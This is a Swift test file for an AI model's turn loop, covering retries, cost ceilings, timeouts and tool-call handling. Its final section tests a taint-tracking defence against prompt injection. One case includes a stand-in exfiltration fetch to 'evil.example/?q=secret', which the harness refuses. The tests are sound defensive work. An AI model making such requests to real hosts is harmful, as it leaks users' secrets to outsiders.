import LanguageModel
import Logging
import Synchronization
import Testing
import Vocabulary

@testable import Assistant

@Suite("The loop of model and tools")
struct TurnLoopTests {
    private static let quiet = Logger(label: "test") { _ in SwiftLogNoOpLogHandler() }
    private static let start = Timestamp(seconds: 1_772_884_800)

    private static func tool(_ name: String, reach: Tool.Reach = .reads, _ output: @escaping @Sendable (ToolArguments) throws -> ToolOutput) -> Tool {
        Tool(description: ToolDescription(name: name, description: name, parameters: .schema([:])), reach: reach) { arguments, _ in
            try output(arguments)
        }
    }

    private static func call(_ name: String, _ arguments: String = "{}", id: String = "c1") -> ToolCall {
        ToolCall(id: id, name: name, arguments: arguments)
    }

    private struct Run {
        var result: TurnResult
        var reply: LiveReply
        var pauses: [Double]
    }

    private func run(
        _ model: any LanguageModel, tools: [Tool] = [], trust: ToolBox.Trust = .init(), prices: Prices? = nil,
        limits change: (inout TurnLimits) -> Void = { _ in }, clock: @escaping Clock = { TurnLoopTests.start }
    ) async -> Run {
        var limits = TurnLimits()
        change(&limits)
        let pauses = Mutex<[Double]>([])
        let recorder = Recorder(pauses)
        let loop = TurnLoop(
            model: model, prices: prices ?? Prices(model: model.description), limits: limits, clock: clock,
            pause: { recorder.add($0) }, logger: Self.quiet)
        let reply = LiveReply()
        let task = TurnLoop.Task(
            messages: [.system("s"), .user("Hello")], tools: ToolBox(tools, logger: Self.quiet), trust: trust, organizationID: "org", userID: "usr",
            threadID: "t", startedAt: Self.start)
        let result = await loop.run(task, into: reply)
        return Run(result: result, reply: reply, pauses: recorder.all)
    }

    private final class Recorder: Sendable {
        private let pauses: Mutex<[Double]>
        init(_ pauses: consuming Mutex<[Double]>) { self.pauses = pauses }
        func add(_ pause: Double) { pauses.withLock { $0.append(pause) } }
        var all: [Double] { pauses.withLock { $0 } }
    }

    @Test("a plain reply is the pieces that were streamed, with usage and cost")
    func plain() async {
        let model = ModelDouble([.pieces(["Good ", "day."], ModelUsage(tokensIn: 1_000, tokensOut: 500))])
        let prices = Prices(table: ["double": ModelPrice(dollarsIn: 2, dollarsOut: 10)], model: model.description)
        let run = await run(model, prices: prices)
        #expect(run.result.text == "Good day.")
        #expect(run.result.failure == nil)
        #expect(run.result.usage.tokensIn == 1_000)
        #expect(run.result.costMicros == 7_000)
        #expect(run.result.ending.status == .complete)
        #expect(run.result.ending.settles)
    }

    @Test("a tool's answer goes back to the model, and what it says around the call becomes one reply")
    func oneTool() async {
        let model = ModelDouble([.calls([Self.call("clock")], text: "Let me look."), .text("It is noon.")])
        let run = await run(model, tools: [Self.tool("clock") { _ in ToolOutput("12:00") }])
        #expect(run.result.text == "Let me look.\n\nIt is noon.")
        #expect(run.result.tools.map(\.status) == [.succeeded])
        #expect(run.reply.snapshot.tools.map(\.status) == [.running, .succeeded])
        #expect(model.requests.count == 2)
        #expect(model.requests[1].messages.suffix(2).map(\.role) == [.assistant, .tool])
        #expect(model.requests[1].messages.last?.content == "12:00")
        #expect(run.result.usage.tokensIn == 20)
    }

    @Test("an unknown tool, broken arguments and a tool that fails are told to the model, and the turn goes on")
    func wrongCalls() async {
        let model = ModelDouble([
            .calls([
                Self.call("nothing", id: "a"), Self.call("clock", "{oops", id: "b"), Self.call("clock", "[]", id: "c"), Self.call("bad", id: "d"),
            ]),
            .text("Sorry."),
        ])
        struct Broken: Error {}
        let run = await run(
            model, tools: [Self.tool("clock") { _ in ToolOutput("12:00") }, Self.tool("bad") { _ in throw Broken() }])
        #expect(run.result.ending.status == .complete)
        #expect(run.result.tools.map(\.status) == [.failed, .failed, .failed, .failed])
        let answers = model.requests[1].messages.filter { $0.role == .tool }.map(\.content)
        #expect(answers.count == 4)
        #expect(answers[0].contains("no tool of that name") && answers[0].contains("clock"))
        #expect(answers[1].contains("not valid JSON"))
        #expect(answers[2].contains("must be a JSON object"))
        #expect(!answers[3].contains("Broken"))
    }

    @Test("after eight rounds of tools the model must answer, and is told so")
    func rounds() async {
        let model = ModelDouble(Array(repeating: .calls([Self.call("clock")]), count: 8) + [.text("Enough.")])
        let run = await run(model, tools: [Self.tool("clock") { _ in ToolOutput("12:00") }])
        #expect(model.requests.count == 9)
        #expect(run.result.text == "Enough.")
        #expect(model.requests[7].messages.last?.content == "12:00")
        #expect(model.requests[8].messages.last?.content == "12:00" + TurnLoop.lastRoundNote)
    }

    @Test("a model that never stops calling tools fails, and its action is settled")
    func endless() async {
        let model = ModelDouble([], then: .calls([Self.call("clock")]))
        let run = await run(model, tools: [Self.tool("clock") { _ in ToolOutput("12:00") }])
        #expect(model.requests.count == 9)
        #expect(run.result.failure == .tooManyRounds)
        #expect(run.result.ending.status == .failed)
        #expect(run.result.ending.settles)
    }

    @Test(
        "a passing fault before any text is tried once more",
        arguments: [ModelFailure.connectionFailed, .brokenStream, .rejected(status: 529, message: ""), .rateLimited(retryAfter: 2)])
    func retried(_ failure: ModelFailure) async {
        let model = ModelDouble([.fails(failure), .text("Here.")])
        let run = await run(model)
        #expect(run.result.text == "Here.")
        #expect(run.result.failure == nil)
        #expect(run.pauses == [failure == .rateLimited(retryAfter: 2) ? 2 : 1])
    }

    @Test(
        "what a retry cannot mend is not tried again",
        arguments: [
            ModelFailure.timedOut, .rejected(status: 401, message: ""), .nonsense("x"), .rateLimited(retryAfter: 60), .notConfigured,
        ])
    func notRetried(_ failure: ModelFailure) async {
        let model = ModelDouble([.fails(failure), .text("Here.")])
        let run = await run(model)
        #expect(model.requests.count == 1)
        #expect(run.result.failure == TurnFailure(failure))
        #expect(run.result.ending.status == .failed)
        #expect(!run.result.ending.settles)
    }

    @Test("there is one retry in a turn, not one for each request")
    func oneRetry() async {
        let model = ModelDouble([
            .fails(.connectionFailed), .calls([Self.call("clock")]), .fails(.connectionFailed), .text("Here."),
        ])
        let run = await run(model, tools: [Self.tool("clock") { _ in ToolOutput("12:00") }])
        #expect(model.requests.count == 3)
        #expect(run.result.failure?.code == "model_unreachable")
        #expect(run.result.ending == ReplyEnding(hasText: false, calledTools: true, failure: TurnFailure(.connectionFailed)))
        #expect(run.result.ending.settles)
    }

    @Test("a reply that breaks off keeps what came, is not tried again, and costs what it can be guessed to have cost")
    func brokenOff() async {
        let model = ModelDouble([.fails(.brokenStream, after: ["Half a ", "sentence"]), .text("Never.")])
        let prices = Prices(table: ["double": ModelPrice(dollarsIn: 1, dollarsOut: 1)], model: model.description)
        let run = await run(model, prices: prices)
        #expect(model.requests.count == 1)
        #expect(run.result.text == "Half a sentence")
        #expect(run.result.ending.status == .interrupted)
        #expect(run.result.ending.settles)
        #expect(run.result.usage.isEstimated)
        #expect(run.result.usage.tokensOut == 4)
        #expect(run.result.costMicros > 0)
    }

    @Test("a model that says nothing at all has failed, and the action is given back")
    func nothing() async {
        let run = await run(ModelDouble([.pieces([])]))
        #expect(run.result.ending.status == .failed)
        #expect(run.result.ending.failure == .emptyReply)
        #expect(!run.result.ending.settles)
    }

    @Test("a reply cut by its length or by the provider's filter says so")
    func cut() async {
        let usage = ModelUsage(tokensIn: 1, tokensOut: 1)
        #expect(await run(ModelDouble([.pieces(["Half"], usage, .length)])).result.ending.failure == .cutByLength)
        #expect(await run(ModelDouble([.pieces(["Half"], usage, .length)])).result.ending.status == .interrupted)
        let withheld = await run(ModelDouble([.pieces([], usage, .filtered)])).result.ending
        #expect(withheld == ReplyEnding(hasText: false, calledTools: false, failure: .filtered))
    }

    @Test("no further request is made once a turn has cost its ceiling")
    func ceiling() async {
        let model = ModelDouble([], then: .calls([Self.call("clock")], text: "Again."))
        let prices = Prices(table: ["double": ModelPrice(dollarsIn: 10, dollarsOut: 10)], model: model.description)
        let run = await run(model, tools: [Self.tool("clock") { _ in ToolOutput("12:00") }], prices: prices) { $0.costCeiling = 300 }
        #expect(model.requests.count == 2)
        #expect(run.result.costMicros == 300)
        #expect(run.result.failure == .costCeiling)
        #expect(run.result.ending.status == .interrupted)
    }

    @Test("the turn's time covers all its requests")
    func time() async {
        let now = Mutex(Self.start)
        let clock = ClockDouble(now)
        let model = ModelDouble([.calls([Self.call("slow")]), .text("Late.")])
        let run = await run(model, tools: [Self.tool("slow") { _ in clock.advance(119); return ToolOutput("done") }], clock: { clock.now })
        #expect(model.requests.map(\.timeoutSeconds) == [120, 1])
        #expect(run.result.text == "Late.")
        let other = ModelDouble([.calls([Self.call("slow")]), .text("Late.")])
        let late = await self.run(other, tools: [Self.tool("slow") { _ in clock.advance(121); return ToolOutput("done") }], clock: { clock.now })
        #expect(late.result.failure == .tooSlow)
        #expect(late.result.ending.status == .failed)
    }

    private final class ClockDouble: Sendable {
        private let time: Mutex<Timestamp>
        init(_ time: consuming Mutex<Timestamp>) { self.time = time }
        var now: Timestamp { time.withLock { $0 } }
        func advance(_ seconds: Double) { time.withLock { $0 = $0.adding(seconds: seconds) } }
    }

    @Test("a reply that does not end is ended")
    func tooLong() async {
        let model = ModelDouble([.pieces(Array(repeating: String(repeating: "x", count: 100), count: 20))])
        let run = await run(model) { $0.replyBytes = 1_000 }
        #expect(run.result.text.utf8.count == 1_000)
        #expect(run.result.ending.failure == .tooLong)
        #expect(run.result.ending.status == .interrupted)
    }

    @Test("U+0000 in a reply is left out, since PostgreSQL cannot keep it")
    func zero() async {
        #expect(await run(ModelDouble([.pieces(["a\0", "\0", "b"])])).result.text == "ab")
    }

    @Test("more than eight calls at once are told to wait")
    func manyCalls() async {
        let calls = (0..<10).map { Self.call("clock", id: "c\($0)") }
        let model = ModelDouble([.calls(calls), .text("Fine.")])
        let run = await run(model, tools: [Self.tool("clock") { _ in ToolOutput("12:00") }])
        #expect(run.result.tools.map(\.status) == Array(repeating: .succeeded, count: 8) + [.refused, .refused])
        #expect(model.requests[1].messages.filter { $0.role == .tool }.count == 10)
    }

    // MARK: Foreign words

    private static let page = tool("http_fetch", reach: .network) { arguments in
        ToolOutput("page of \(try arguments.requiredText("url", limit: 100))", untrustedSource: "https://a.example/")
    }
    private static let keep = tool("remember", reach: .writes) { _ in ToolOutput("kept") }

    @Test("after a fetched page nothing is stored, and only addresses that the person wrote are fetched")
    func tainted() async {
        let model = ModelDouble([
            .calls([
                Self.call("remember", id: "a"), Self.call("http_fetch", #"{"url":"https://a.example/"}"#, id: "b"), Self.call("remember", id: "c"),
                Self.call("http_fetch", #"{"url":"https://evil.example/?q=secret"}"#, id: "d"),
                Self.call("http_fetch", #"{"url":"https://b.example/x"}"#, id: "e"),
            ]), .text("Read."),
        ])
        let known = WebAddresses.found(in: "Compare (https://b.example/x).")
        let run = await run(model, tools: [Self.page, Self.keep], trust: .init(knownAddresses: known))
        #expect(run.result.tools.map(\.status) == [.succeeded, .succeeded, .refused, .refused, .succeeded])
        #expect(run.result.tools.map(\.untrusted) == [false, true, false, false, true])
        let answers = model.requests[1].messages.filter { $0.role == .tool }.map(\.content)
        #expect(answers[1].hasPrefix("«BEGIN DATA»"))
        #expect(answers[2].hasPrefix("Not allowed"))
    }

    @Test("what the person allows is allowed")
    func waived() async {
        let model = ModelDouble([
            .calls([Self.call("http_fetch", #"{"url":"https://a.example/"}"#, id: "b"), Self.call("remember", id: "c")]), .text("Read."),
        ])
        let run = await run(model, tools: [Self.page, Self.keep], trust: .init(isWaived: true))
        #expect(run.result.tools.map(\.status) == [.succeeded, .succeeded])
    }

    @Test("where earlier replies came of foreign words, storing is free again and unknown addresses are not")
    func taintedHistory() async {
        let model = ModelDouble([
            .calls([Self.call("remember", id: "a"), Self.call("http_fetch", #"{"url":"https://evil.example/"}"#, id: "b")]), .text("Fine."),
        ])
        let run = await run(model, tools: [Self.page, Self.keep], trust: .init(hasTaintedHistory: true))
        #expect(run.result.tools.map(\.status) == [.succeeded, .refused])
    }
}
